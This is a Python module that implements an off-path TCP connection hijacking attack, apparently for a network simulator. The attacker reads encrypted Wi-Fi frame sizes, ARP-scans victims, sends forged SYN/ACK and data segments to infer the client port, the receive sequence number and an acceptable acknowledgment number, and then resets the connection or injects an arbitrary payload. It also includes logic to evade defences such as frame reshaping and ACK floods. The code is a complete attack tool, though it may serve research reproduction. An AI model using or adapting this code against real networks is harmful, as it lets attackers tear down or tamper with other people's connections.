"""Off-path inference of a victim's TCP connection from encrypted frame sizes.

The attacker only does two things: it transmits forged segments (spoofing
the victim's address) and it reads the lengths, addresses and timestamps of
frames its sniffer captured.  Everything else it learns from those lengths.

The network is reached through a *net* object (the simulator's ``World``)
exposing ``now``, ``advance(t)``, ``send_forged(seg)``, ``take_frames(t0, t1)``,
``arp_scan()``, ``tune(channel)`` and ``evict(mac)``.
"""

from __future__ import annotations

import random
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import NamedTuple

from .endpoint import Flag, FourTuple, SegmentMeta, TcpResponse, response_ip_length
from .errors import ConfigError, DurationExceeded, EvictionUnavailable, PhaseError
from .formats import ProbeRecord, observation_label
from .link import encapsulate

DEFAULT_PORT_RANGE = (32768, 60999)
SYN_ACK = Flag.SYN | Flag.ACK
DATA = Flag.ACK | Flag.PSH


@dataclass(frozen=True)
class InferenceConfig:
    k_verify: int = 3
    # None: 2 * rtt + upper contention bound of the channel
    observe_timeout_ms: float | None = None
    port_range: tuple[int, int] = DEFAULT_PORT_RANGE
    # first port of the ascending sweep; None starts at the bottom of the range
    port_start: int | None = None
    probe_pacing: float = 50.0
    sniffer_count: int = 1
    max_sweeps: int = 2
    max_reinfer: int = 2
    # "auto" switches to SACK-based port inference under an empty-ACK flood
    sack_port: str = "auto"
    flood_listen_s: float = 1.0
    flood_threshold_pps: float = 20.0
    # frames above this length are application data, not probe responses
    control_len_max: int = 200
    seq_probe_ack: int | None = None
    seq_bits: int = 32
    target_mac: str | None = None
    evict: bool = False

    def __post_init__(self) -> None:
        lo, hi = self.port_range
        if self.k_verify < 1:
            raise ConfigError("k_verify must be >= 1")
        if not 1 <= lo <= hi <= 65535:
            raise ConfigError("port_range must be a non-empty interval of non-zero ports")
        if self.port_start is not None and not lo <= self.port_start <= hi:
            raise ConfigError("port_start must lie inside port_range")
        if self.probe_pacing <= 0:
            raise ConfigError("probe_pacing must be positive")
        if self.sniffer_count < 1 or self.max_sweeps < 1 or self.max_reinfer < 0:
            raise ConfigError("sniffer_count and max_sweeps must be >= 1, max_reinfer >= 0")
        if self.sack_port not in ("auto", "never", "always"):
            raise ConfigError("sack_port must be auto, never or always")
        if not 8 <= self.seq_bits <= 32:
            raise ConfigError("seq_bits must be in [8, 32]")
        if self.observe_timeout_ms is not None and self.observe_timeout_ms <= 0:
            raise ConfigError("observe_timeout_ms must be positive")


class Observation(NamedTuple):
    saw_56: int
    saw_68: int
    saw_80: int
    other: int
    window: tuple[int, int]
    lengths: tuple[int, ...] = ()

    @classmethod
    def from_lengths(cls, lengths, window) -> Observation:
        lengths = tuple(lengths)
        c56, c68, c80 = lengths.count(56), lengths.count(68), lengths.count(80)
        return cls(c56, c68, c80, len(lengths) - c56 - c68 - c80, window, lengths)


@dataclass
class Alphabet:
    """Observable frame lengths of the three response types.

    ``ack`` and ``sack`` become ``None`` when a defence has been detected
    and the value has not been re-learnt yet.
    """

    rst: int
    ack: int | None
    sack: int | None
    adaptive: bool = False

    @classmethod
    def default(cls) -> Alphabet:
        size = lambda kind: encapsulate(response_ip_length(kind))  # noqa: E731
        return cls(size(TcpResponse.RST), size(TcpResponse.CHALLENGE_ACK), size(TcpResponse.SACK_ACK))


@dataclass
class AttackReport:
    victim_mac: str | None = None
    victim_ip: str | None = None
    port_found: int | None = None
    rcv_nxt_found: int | None = None
    ack_lower_found: int | None = None
    ack_usable: int | None = None
    action_seq: int | None = None
    probes_sent: int = 0
    bytes_sent: int = 0
    virtual_time: float = 0.0
    phase_times: dict[str, float] = field(default_factory=dict)
    outcome: str = "inconclusive"
    failed_phase: str | None = None
    reason: str | None = None
    used_sack_port: bool = False
    reinferences: int = 0

    @property
    def bandwidth_kbps(self) -> float:
        return self.bytes_sent / 1024 / self.virtual_time if self.virtual_time > 0 else 0.0


class _Inconsistent(Exception):
    pass


def derive_usable_ack(lower: int, bits: int = 32) -> int:
    """Acceptable acknowledgment number from the challenge window's lower edge.

    The lower edge is ``snd_una - 2**(bits-1) + 1``, so adding half the space
    minus one lands exactly on ``snd_una``, which is acceptable whenever the
    send window is non-empty.
    """
    mod = 1 << bits
    return (lower + (mod >> 1) - 1) % mod


class Attacker:
    def __init__(self, net, cfg: InferenceConfig, server: tuple[str, int], *,
                 rng: random.Random, timeout_us: int, action: str = "reset",
                 payload: bytes = b""):
        self.net = net
        self.cfg = cfg
        self.server_ip, self.server_port = server
        self.rng = rng
        self.timeout_us = timeout_us
        self.step_us = max(round(1e6 / cfg.probe_pacing), timeout_us)
        self.action = action
        self.payload = payload
        self.alphabet = Alphabet.default()
        self.mod = 1 << cfg.seq_bits
        self.half = self.mod >> 1
        self.quarter = self.mod >> 2
        self.victim_mac: str | None = None
        self.probe_log: list[ProbeRecord] = []
        self.report = AttackReport()
        self._next_send = 0
        self._resume_port: int | None = None
        self._seq_ack = cfg.seq_probe_ack if cfg.seq_probe_ack is not None else rng.randrange(self.mod)

    # -- transmission and observation -------------------------------------

    def _send(self, seg: SegmentMeta, kind: str, value: int) -> Observation:
        net = self.net
        t = max(net.now, self._next_send)
        net.advance(t)
        eth_len = net.send_forged(seg)
        self.report.probes_sent += 1
        self.report.bytes_sent += eth_len
        end = t + self.timeout_us
        self._next_send = t + self.step_us
        net.advance(end)
        lengths = self._responses(net.take_frames(t, end))
        self.probe_log.append(ProbeRecord(t, kind, value, observation_label(lengths), eth_len))
        return Observation.from_lengths(lengths, (t, end))

    def _responses(self, frames) -> list[int]:
        """Lengths of downlink frames to the victim that can be probe responses.

        Uplink frames are the victim's own traffic, A-MSDUs are flagged in the
        clear QoS header and never carry a lone response, and long frames
        carry application data.
        """
        mac, limit = self.victim_mac, self.cfg.control_len_max
        return [f.observable_len for f in frames
                if f.addr1 == mac and not f.amsdu and f.observable_len <= limit]

    def probe_and_observe(self, seg: SegmentMeta, expected_len: int, *, kind: str = "probe",
                          value: int | None = None, repeats: int | None = None) -> bool:
        """Send ``seg`` up to ``k_verify`` times; true as soon as a frame of ``expected_len`` shows up."""
        value = seg.seq if value is None else value
        for _ in range(self.cfg.k_verify if repeats is None else repeats):
            if expected_len in self._send(seg, kind, value).lengths:
                return True
        return False

    def _tuple(self, victim_ip: str, port: int) -> FourTuple:
        return FourTuple(victim_ip, port, self.server_ip, self.server_port)

    def _syn_ack(self, tup: FourTuple) -> SegmentMeta:
        return SegmentMeta(tup, SYN_ACK, self.rng.randrange(self.mod), self.rng.randrange(self.mod))

    def _data(self, tup: FourTuple, seq: int, ack: int) -> SegmentMeta:
        return SegmentMeta(tup, DATA, seq % self.mod, ack % self.mod, 1)

    def _pure_ack(self, tup: FourTuple, seq: int, ack: int) -> SegmentMeta:
        return SegmentMeta(tup, Flag.ACK, seq % self.mod, ack % self.mod, 0)

    # -- step 1: scanning ---------------------------------------------------

    def arp_scan(self) -> list[tuple[str, str]]:
        """Every supplicant that answered ARP in any of ``k_verify`` rounds, in first-seen order."""
        found: dict[str, tuple[str, str, int | None]] = {}
        for _ in range(self.cfg.k_verify):
            for mac, ip, channel in self.net.arp_scan():
                found.setdefault(mac, (mac, ip, channel))
        self._channels = {mac: ch for mac, _, ch in found.values()}
        return [(mac, ip) for mac, ip, _ in found.values()]

    # -- step 2: the client port ------------------------------------------

    def _ports(self, start: int | None):
        lo, hi = self.cfg.port_range
        first = start if start is not None else (self.cfg.port_start or lo)
        span = hi - lo + 1
        for i in range(span):
            yield lo + (first - lo + i) % span

    def _port_verdict(self, obs: Observation) -> str:
        lengths = obs.lengths
        if not lengths:
            return "closed"
        a = self.alphabet
        if not a.adaptive and any(n not in (a.rst, a.ack) for n in lengths):
            # unexpected sizes: a defence reshapes frames, so re-learn the
            # RST size (the smallest response) and treat anything else as a hit
            a.rst, a.ack, a.sack, a.adaptive = min(lengths), None, None, True
        rst_seen = a.rst in lengths
        if a.adaptive:
            hit = any(n != a.rst for n in lengths)
        else:
            hit = a.ack in lengths
        if hit and rst_seen:
            return "ambiguous"
        return "open" if hit else "closed"

    def _verify_port(self, tup: FourTuple) -> bool:
        """Confirmed iff ``k_verify`` more probes draw no RST and at least one hit."""
        hits = 0
        for _ in range(self.cfg.k_verify):
            obs = self._send(self._syn_ack(tup), "port_verify", tup.client_port)
            if self.alphabet.rst in obs.lengths:
                return False
            hits += self._port_verdict(obs) == "open"
        return hits > 0

    def infer_port(self, victim_ip: str, start: int | None = None) -> int | None:
        """Sweep client ports with forged SYN/ACKs; a challenge ACK marks the live connection.

        Returns ``None`` when no sweep finds the port.  Raises an inconclusive
        :class:`PhaseError` when ambiguity persists or when a defence leaves
        nothing to tell open from closed ports.
        """
        for sweep in range(self.cfg.max_sweeps):
            for port in self._ports(start if sweep == 0 else None):
                self._resume_port = port
                tup = self._tuple(victim_ip, port)
                verdict = self._port_verdict(self._send(self._syn_ack(tup), "port", port))
                rounds = 0
                while verdict == "ambiguous" and rounds < self.cfg.k_verify:
                    verdict = self._port_verdict(self._send(self._syn_ack(tup), "port", port))
                    rounds += 1
                if verdict == "ambiguous":
                    raise PhaseError("port", "persistent ambiguity", inconclusive=True)
                if verdict == "open" and self._verify_port(tup):
                    if self.alphabet.adaptive and self.alphabet.ack is None:
                        self._learn_ack_size(tup)
                    return port
            if self.alphabet.adaptive:
                raise PhaseError("port", "no size distinction between responses", inconclusive=True)
        return None

    def _learn_ack_size(self, tup: FourTuple) -> None:
        obs = self._send(self._syn_ack(tup), "port_verify", tup.client_port)
        others = [n for n in obs.lengths if n != self.alphabet.rst]
        if others:
            self.alphabet.ack = min(others)

    def infer_port_sack(self, victim_ip: str, start: int | None = None) -> int | None:
        """Sweep ports with data probes at ``s`` and ``s + 2**31``.

        For the live port one of the pair is always old data and draws a
        SACK-carrying ACK, whose length no empty ACK can mimic.
        """
        if self.alphabet.sack is None:
            raise PhaseError("port", "SACK response size unknown", inconclusive=True)
        sack = self.alphabet.sack
        s = self.rng.randrange(self.mod)
        for sweep in range(self.cfg.max_sweeps):
            for port in self._ports(start if sweep == 0 else None):
                self._resume_port = port
                if self._sack_pair(victim_ip, port, s, sack, "port_sack", repeats=1):
                    if self._sack_pair(victim_ip, port, s, sack, "port_sack_verify"):
                        return port
        return None

    def _sack_pair(self, victim_ip: str, port: int, s: int, sack: int, kind: str,
                   repeats: int | None = None) -> bool:
        tup = self._tuple(victim_ip, port)
        for _ in range(self.cfg.k_verify if repeats is None else repeats):
            for seq in (s, s + self.half):
                if sack in self._send(self._data(tup, seq, self._seq_ack), kind, port).lengths:
                    return True
        return False

    def detect_flood(self) -> bool:
        """Listen without probing; a steady stream of ACK-sized frames means noise."""
        listen_us = round(self.cfg.flood_listen_s * 1e6)
        if listen_us <= 0 or self.alphabet.ack is None:
            return False
        net = self.net
        t0 = max(net.now, self._next_send)
        net.advance(t0 + listen_us)
        lengths = self._responses(net.take_frames(t0, t0 + listen_us))
        count = lengths.count(self.alphabet.ack)
        self._next_send = t0 + listen_us
        return count / self.cfg.flood_listen_s >= self.cfg.flood_threshold_pps

    # -- step 3: the exact sequence number ----------------------------------

    def _calibrate_sack(self, tup: FourTuple) -> None:
        a = self.alphabet
        s = self.rng.randrange(self.mod)
        seen: set[int] = set()
        for seq in (s, s + self.half):
            seen.update(self._send(self._data(tup, seq, self._seq_ack), "seq_calibrate", seq).lengths)
        candidates = sorted(n for n in seen if n not in (a.rst, a.ack))
        if not candidates:
            raise PhaseError("seq", "SACK response indistinguishable from other responses",
                             inconclusive=True)
        a.sack = candidates[-1]

    def _behind(self, tup: FourTuple, x: int, kind: str = "seq") -> bool:
        """True iff a 1-byte probe at ``x`` draws a SACK: ``x`` is behind rcv_nxt."""
        return self.probe_and_observe(self._data(tup, x, self._seq_ack), self.alphabet.sack,
                                      kind=kind, value=x % self.mod)

    def _seq_search(self, tup: FourTuple) -> int:
        mod, half = self.mod, self.half
        c = self.rng.randrange(mod)
        # the first probe splits the space into two halves, one holding rcv_nxt
        lo = c + 1 if self._behind(tup, c) else c - half + 1
        n = half
        while n > 1:
            h = n // 2
            x = lo + h - 1
            if self._behind(tup, x):
                lo, n = lo + h, n - h
            else:
                n = h
        found = lo % mod
        if self._behind(tup, found, "seq_confirm"):
            raise _Inconsistent
        return found

    def infer_seq(self, tup: FourTuple) -> int:
        """Binary-search rcv_nxt using SACK presence; at most ``(bits+1) * k_verify`` probes per attempt."""
        if self.alphabet.sack is None:
            self._calibrate_sack(tup)
        for attempt in range(1 + self.cfg.max_reinfer):
            try:
                return self._seq_search(tup)
            except _Inconsistent:
                self.report.reinferences += attempt < self.cfg.max_reinfer
                # an in-window probe whose arbitrary ack happened to be
                # acceptable was taken as data and moved rcv_nxt; draw another
                if self.cfg.seq_probe_ack is None:
                    self._seq_ack = self.rng.randrange(self.mod)
        raise PhaseError("seq", "inconsistent observations")

    # -- step 4: an acceptable acknowledgment number --------------------------

    def _challenged(self, tup: FourTuple, seq_ok: int, ack: int, kind: str) -> bool:
        if self.alphabet.ack is None:
            raise PhaseError("ack_window", "challenge ACK size unknown", inconclusive=True)
        return self.probe_and_observe(self._pure_ack(tup, seq_ok, ack), self.alphabet.ack,
                                      kind=kind, value=ack % self.mod)

    def locate_challenge_window(self, tup: FourTuple, seq_ok: int) -> int:
        """Try four ack values a quarter-space apart; the challenge window holds at least one."""
        c = self.rng.randrange(self.mod)
        for i in range(4):
            ack = (c + i * self.quarter) % self.mod
            if self._challenged(tup, seq_ok, ack, "ack_window"):
                return ack
        raise PhaseError("ack_window", "no quarter point drew a challenge ACK")

    def find_ack_lower_boundary(self, tup: FourTuple, seq_ok: int, ack_challenge: int) -> int:
        """Smallest ack in ``(ack_challenge - 2**31, ack_challenge]`` still challenged."""
        lo, n = ack_challenge - self.half + 1, self.half
        while n > 1:
            h = n // 2
            if self._challenged(tup, seq_ok, lo + h - 1, "ack_boundary"):
                n = h
            else:
                lo, n = lo + h, n - h
        lower = lo % self.mod
        if self._challenged(tup, seq_ok, lower - 1, "ack_confirm"):
            raise _Inconsistent
        return lower

    # -- actions --------------------------------------------------------------

    def hijack_reset(self, tup: FourTuple, rcv_nxt: int) -> bool:
        """Send a RST at ``rcv_nxt``; true once the port answers a SYN/ACK with a RST.

        A live connection never answers with a RST, while ACK-sized frames may
        be unrelated traffic, so only the RST size is evidence.
        """
        rst = SegmentMeta(tup, Flag.RST, rcv_nxt % self.mod, 0)
        self._send(rst, "reset", rcv_nxt % self.mod)
        return self.probe_and_observe(self._syn_ack(tup), self.alphabet.rst, kind="reset_verify",
                                      value=tup.client_port)

    def hijack_inject(self, tup: FourTuple, seq: int, ack: int, payload: bytes) -> bool:
        """Inject ``payload`` at ``seq``; true when the endpoint's ACK is observed."""
        if not payload:
            return True
        seg = SegmentMeta(tup, DATA, seq % self.mod, ack % self.mod, len(payload), payload)
        obs = self._send(seg, "inject", seq % self.mod)
        return self.alphabet.ack is not None and self.alphabet.ack in obs.lengths

    # -- orchestration -------------------------------------------------------

    @contextmanager
    def _phase(self, name: str):
        self._current = name
        start = self.net.now
        try:
            yield
        finally:
            elapsed = (self.net.now - start) / 1e6
            self.report.phase_times[name] = self.report.phase_times.get(name, 0.0) + elapsed

    def full_attack(self) -> AttackReport:
        """Run every step and return the attacker's own view of the outcome."""
        report = self.report
        start = self.net.now
        self._current = "scan"
        try:
            self._run()
            report.outcome, report.failed_phase, report.reason = "success", None, None
        except PhaseError as exc:
            report.outcome = "inconclusive" if exc.inconclusive else "failure"
            report.failed_phase, report.reason = exc.phase, exc.reason
        except DurationExceeded:
            report.outcome, report.failed_phase, report.reason = "failure", self._current, "timeout"
        report.virtual_time = (self.net.now - start) / 1e6
        return report

    def _run(self) -> None:
        report, cfg = self.report, self.cfg
        with self._phase("scan"):
            supplicants = self.arp_scan()
            if not supplicants:
                raise PhaseError("scan", "no supplicant answered ARP")
            if cfg.target_mac is not None:
                supplicants = [s for s in supplicants if s[0] == cfg.target_mac.lower()]
                if not supplicants:
                    raise PhaseError("scan", "target did not answer ARP")

        for mac, ip in supplicants:
            self.victim_mac = mac
            report.victim_mac, report.victim_ip = mac, ip
            if self._channels.get(mac) is not None:
                self.net.tune(self._channels[mac])
            if cfg.evict:
                try:
                    gap_us = self.net.evict(mac)
                    self._next_send = max(self._next_send, self.net.now + gap_us)
                except EvictionUnavailable:
                    pass
            with self._phase("port"):
                port = self._find_port(ip)
            if port is not None:
                break
        else:
            raise PhaseError("port", "no live connection found")
        report.port_found = port
        tup = self._tuple(ip, port)

        with self._phase("seq"):
            rcv_nxt = self.infer_seq(tup)
        report.rcv_nxt_found = rcv_nxt

        if self.action == "reset":
            self._do_reset(tup, rcv_nxt)
        else:
            self._do_inject(tup, rcv_nxt)

    def _find_port(self, ip: str) -> int | None:
        mode = self.cfg.sack_port
        if mode == "always" or (mode == "auto" and self.detect_flood()):
            self.report.used_sack_port = True
            return self.infer_port_sack(ip)
        try:
            return self.infer_port(ip)
        except PhaseError as exc:
            if mode != "auto" or exc.reason != "persistent ambiguity":
                raise
        # noisy channel: continue the sweep where it stopped, with SACK probes
        self.report.used_sack_port = True
        return self.infer_port_sack(ip, start=self._resume_port)

    def _do_reset(self, tup: FourTuple, rcv_nxt: int) -> None:
        for attempt in range(1 + self.cfg.max_reinfer):
            with self._phase("action"):
                self.report.action_seq = rcv_nxt
                if self.hijack_reset(tup, rcv_nxt):
                    return
            if attempt == self.cfg.max_reinfer:
                break
            self.report.reinferences += 1
            with self._phase("seq"):
                rcv_nxt = self.infer_seq(tup)
            self.report.rcv_nxt_found = rcv_nxt
        raise PhaseError("action", "reset not confirmed")

    def _infer_ack(self, tup: FourTuple, seq_ok: int) -> int:
        for attempt in range(1 + self.cfg.max_reinfer):
            with self._phase("ack_window"):
                ack_challenge = self.locate_challenge_window(tup, seq_ok)
            try:
                with self._phase("ack_boundary"):
                    lower = self.find_ack_lower_boundary(tup, seq_ok, ack_challenge)
            except _Inconsistent:
                self.report.reinferences += attempt < self.cfg.max_reinfer
                continue
            self.report.ack_lower_found = lower
            return derive_usable_ack(lower, self.cfg.seq_bits)
        raise PhaseError("ack_boundary", "inconsistent observations")

    def _do_inject(self, tup: FourTuple, rcv_nxt: int) -> None:
        for attempt in range(1 + self.cfg.max_reinfer):
            ack = self._infer_ack(tup, rcv_nxt)
            self.report.ack_usable = ack
            with self._phase("action"):
                self.report.action_seq = rcv_nxt
                if self.hijack_inject(tup, rcv_nxt, ack, self.payload):
                    return
            if attempt == self.cfg.max_reinfer:
                break
            self.report.reinferences += 1
            with self._phase("seq"):
                rcv_nxt = self.infer_seq(tup)
            self.report.rcv_nxt_found = rcv_nxt
        raise PhaseError("action", "injection not acknowledged")


def full_attack(net, cfg: InferenceConfig, server: tuple[str, int], *, rng: random.Random,
                timeout_us: int, action: str = "reset", payload: bytes = b"") -> tuple[AttackReport, list[ProbeRecord]]:
    attacker = Attacker(net, cfg, server, rng=rng, timeout_us=timeout_us, action=action, payload=payload)
    return attacker.full_attack(), attacker.probe_log
